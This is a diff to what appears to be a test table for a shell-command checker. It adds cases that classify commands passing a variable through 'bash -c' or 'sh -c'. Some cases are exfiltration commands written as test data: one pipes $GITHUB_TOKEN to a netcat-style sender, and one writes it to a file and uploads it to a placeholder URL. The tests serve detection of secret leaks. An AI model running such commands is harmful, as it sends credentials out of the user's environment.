@@ -105,3 +105,9 @@ table("a shell's -c text given its positional parameters", [
   ["a plain word", `bash -c 'echo "$1" | ${NC}' _ hello`, ...OK],
   ["the credential in a header", `bash -c 'curl -H "Authorization: Bearer $1" ${URL}' _ "$GITHUB_TOKEN"`, ...OK],
 ]);
+
+table("what a shell's -c text prints of its positional parameters", [
+  ["piped to a sender", `bash -c 'echo "$1"' _ "$GITHUB_TOKEN" | ${NC}`, ...EGRESS],
+  ["into a file, uploaded", `sh -c 'printf %s "$1"' _ "$GITHUB_TOKEN" > /tmp/o; ${PUT} /tmp/o ${URL}`, ...SECRET],
+  ["a plain word piped", `bash -c 'echo "$1"' _ hello | ${NC}`, ...OK],
+]);
